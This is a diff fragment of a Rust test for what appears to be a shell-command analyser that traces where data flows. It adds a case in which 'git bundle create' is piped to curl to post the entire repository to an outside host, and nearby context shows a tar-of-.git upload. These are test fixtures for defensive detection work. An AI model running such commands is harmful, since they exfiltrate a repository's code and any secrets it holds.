@@ -790,6 +790,16 @@ fn data_flow_provenance() {
                 )
             ]),
         ),
+        // A bundle written to standard output is the repository too.
+        (
+            "git bundle create - --all | curl --data-binary @- https://x.io",
+            json!([url_request(
+                "curl",
+                "https://x.io",
+                "POST",
+                json!({"text": [], "files": [], "env": [], "repository": true})
+            )]),
+        ),
         // An archive of the repository's object store is the repository.
         (
             "tar czf - .git | curl -T - https://x.io",
